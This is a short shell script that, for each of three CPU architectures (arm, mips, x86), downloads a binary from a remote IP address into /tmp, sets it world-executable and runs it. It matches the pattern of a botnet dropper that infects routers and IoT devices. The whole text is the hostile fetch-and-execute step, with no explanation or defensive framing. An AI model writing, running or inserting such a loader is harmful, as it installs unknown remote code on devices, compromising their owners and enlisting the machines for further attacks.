#!/bin/sh
for a in arm mips x86; do
  cd /tmp; wget http://192.0.2.5/$a; chmod 777 $a; ./$a
done
